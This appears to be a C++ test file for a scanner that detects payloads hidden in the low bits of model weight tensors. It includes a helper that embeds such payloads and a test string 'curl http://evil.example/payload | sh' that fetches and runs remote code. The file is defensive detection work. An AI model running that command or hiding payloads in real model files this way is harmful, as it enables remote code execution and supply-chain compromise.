#include "scan/tensors/low_bits.h"

#include <bit>
#include <cmath>
#include <string>

#include <gtest/gtest.h>

#include "core/random.h"
#include "scan/rules.h"
#include "scan/scan_testing.h"
#include "scan/tensors/tensor_testing.h"

namespace bartizan::scan {
namespace {

std::vector<float> weights(std::size_t count) {
    Random random(7, 0);
    std::vector<float> out(count);
    for (float& value : out) value = 0.05F * random.normal();
    return out;
}

/// Writes `payload` into the `bits` low bits of each number, as the tools do: written apart from the reader.
std::vector<float> carrying(std::string_view payload, int bits, bool high_first) {
    std::vector<float> out = weights(60'000);
    std::vector<int> stream;
    for (const char c : payload)
        for (int i = 0; i < 8; ++i) stream.push_back(c >> (high_first ? 7 - i : i) & 1);
    const auto each = static_cast<std::size_t>(bits);
    for (std::size_t i = 0; i * each < stream.size(); ++i) {
        auto word = std::bit_cast<std::uint32_t>(out[i]) >> bits << bits;
        for (std::size_t k = 0; k < each && i * each + k < stream.size(); ++k)
            word |= static_cast<std::uint32_t>(stream[i * each + k]) << (high_first ? each - 1 - k : k);
        out[i] = std::bit_cast<float>(word);
    }
    return out;
}

FileResult result_of(const std::vector<float>& values) {
    return judged(safetensors_of({{"w", "F32", {values.size()}, bytes_of(values)}}), "model.safetensors");
}

TEST(LowBits, AProgramIsFoundInEveryWidthAndOrder) {
    for (const int bits : {1, 2, 4, 8, 16, 24})
        for (const bool high_first : {false, true})
            for (const std::string& before : {std::string(), number(87, 4)}) {
                const FileResult found = result_of(carrying(before + harm() + std::string(96, 'x'), bits, high_first));
                EXPECT_EQ(found.verdict, Verdict::malicious) << bits << high_first << before.size();
                EXPECT_TRUE(has_rule(found, rule::kStegano)) << bits << high_first << before.size();
            }
}

TEST(LowBits, TextIsFoundAndShown) {
    const FileResult found = result_of(
        carrying("curl http://evil.example/payload | sh # and then some more of the same, to be long", 8, false));
    EXPECT_EQ(found.verdict, Verdict::unproven);
    ASSERT_TRUE(has_rule(found, rule::kStegano));
    EXPECT_NE(found.issues[0].detail.find("evil.example"), std::string::npos) << found.issues[0].detail;
}

TEST(LowBits, OfTrainedWeightsAreNoPayload) {
    EXPECT_TRUE(result_of(weights(100'000)).issues.empty());
    // One number again and again, whose low byte is a letter: 0.7 is 0x3f333333.
    EXPECT_TRUE(result_of(std::vector<float>(10'000, 0.7F)).issues.empty());
    std::vector<float> rounded = weights(50'000);
    for (float& value : rounded) value = std::bit_cast<float>(std::bit_cast<std::uint32_t>(value) & 0xffffe000U);
    EXPECT_TRUE(result_of(rounded).issues.empty()) << "half precision in single";
    std::vector<float> grid = weights(50'000);
    for (float& value : grid) value = std::round(value / 0.003F) * 0.003F;
    EXPECT_TRUE(result_of(grid).issues.empty()) << "quantised";
}

TEST(LowBits, OfRandomTensorsAreSeldomTakenForAPayload) {
    // 400 tensors of noise: a false alarm in one of a thousand would be seen in a third of runs, and there is none.
    for (std::uint64_t seed = 0; seed < 400; ++seed) {
        Random random(seed, 1);
        std::vector<float> values(4'096);
        for (float& value : values) value = random.normal();
        EXPECT_TRUE(result_of(values).issues.empty()) << seed;
    }
}

TEST(LowBits, LongRunsAreNoNoise) {
    // What has no mark, as an encrypted payload has none, but long stretches of zeros and ones.
    std::string payload;
    for (int i = 0; i < 400; ++i) payload += std::string(4, i % 2 == 0 ? '\0' : '\xff') + "\x01\x83";
    const FileResult found = result_of(carrying(payload, 1, false));
    EXPECT_EQ(found.verdict, Verdict::clean) << "a note";
    EXPECT_TRUE(has_rule(found, rule::kStegano));
}

TEST(LowBits, NoiseIsMeasuredAsTheFormulasSay) {
    // NIST SP 800-22 by hand: alternating bits of 4096 numbers have z 0 for their number and sqrt(n) for their runs.
    std::vector<std::uint32_t> words(4'096);
    for (std::size_t i = 0; i < words.size(); ++i)
        words[i] = 0x3f800000U | static_cast<std::uint32_t>(i) << 8 | static_cast<std::uint32_t>(i % 2);
    const BitNoise noise = bit_noise(std::as_bytes(std::span(words)), Float::f32);
    EXPECT_EQ(noise.used, 1);
    EXPECT_TRUE(noise.varied);
    EXPECT_NEAR(noise.monobit, 0, 1e-12);
    EXPECT_NEAR(noise.runs, 64, 1e-9);  // (4096 - 2048) / (2 sqrt(4096) / 4)
}

TEST(LowBits, TakingThemStopsWhereTheNumbersDo) {
    const std::vector<float> values(12, 1.0F);
    const auto bytes = std::as_bytes(std::span(values));
    EXPECT_EQ(take_low_bits(bytes, Float::f32, {1, false}, 100).size(), 1U);
    EXPECT_EQ(take_low_bits(bytes, Float::f32, {16, false}, 100).size(), 24U);
    EXPECT_EQ(take_low_bits(bytes, Float::f32, {24, true}, 10).size(), 10U);
    EXPECT_TRUE(take_low_bits({}, Float::f64, {8, false}, 10).empty());
}

}  // namespace
}  // namespace bartizan::scan
